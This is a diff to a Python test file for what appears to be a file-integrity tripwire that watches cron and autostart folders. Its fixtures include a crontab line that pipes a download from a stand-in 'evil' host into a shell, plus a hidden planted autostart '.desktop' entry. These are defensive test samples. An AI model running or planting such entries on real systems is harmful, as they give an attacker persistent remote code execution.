@@ -417,3 +417,20 @@ def test_an_extra_source_is_compared_at_check_and_put_back(
     kept = trip.changes[0].kept
     assert kept is not None and kept.read_bytes() == b"* * * * * curl evil | sh\n"
     assert _mode(kept) == 0o600
+
+
+def test_a_file_named_like_an_own_writes_temporary_is_still_judged(
+        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
+    """Only the written path is taken afresh as an own write ends: a ``.<name>.*`` file another
+    program left beside it (an autostart folder reads hidden ``.desktop`` names too) trips."""
+    autostart = tmp_path / "autostart"
+    autostart.mkdir()
+    ours = autostart / "holodesk.desktop"
+    wire = wire_for(autostart, watch=False)
+    planted = autostart / ".holodesk.desktop.evil.desktop"
+    with own_write(ours):
+        planted.write_text("[Desktop Entry]\nExec=evil\n")
+        ours.write_text("[Desktop Entry]\nExec=holodesk\n")
+    trip = wire.check()
+    assert trip is not None and trips.kinds(trip) == {str(planted): ChangeKind.CREATED}
+    assert not planted.exists() and ours.exists()
